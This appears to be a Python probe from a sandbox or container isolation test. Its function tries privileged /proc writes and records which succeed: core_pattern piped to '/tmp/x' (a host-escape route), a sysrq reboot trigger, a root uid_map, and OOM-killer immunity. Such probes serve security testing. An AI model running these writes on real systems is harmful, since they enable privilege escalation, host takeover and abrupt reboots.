from common import gained, write


def attack(facts):
    return gained(
        score=lambda: write("/proc/self/oom_score_adj", b"-1000"),
        ids=lambda: write("/proc/self/uid_map", b"0 0 1"),
        core=lambda: write("/proc/sys/kernel/core_pattern", b"|/tmp/x"),
        host=lambda: write("/proc/sys/kernel/hostname", b"x"),
        pids=lambda: write("/proc/sys/kernel/ns_last_pid", b"100"),
        trigger=lambda: write("/proc/sysrq-trigger", b"b"),
        setgroups=lambda: write("/proc/self/setgroups", b"allow"),
        timer=lambda: write("/proc/self/timerslack_ns", b"1"),
    )
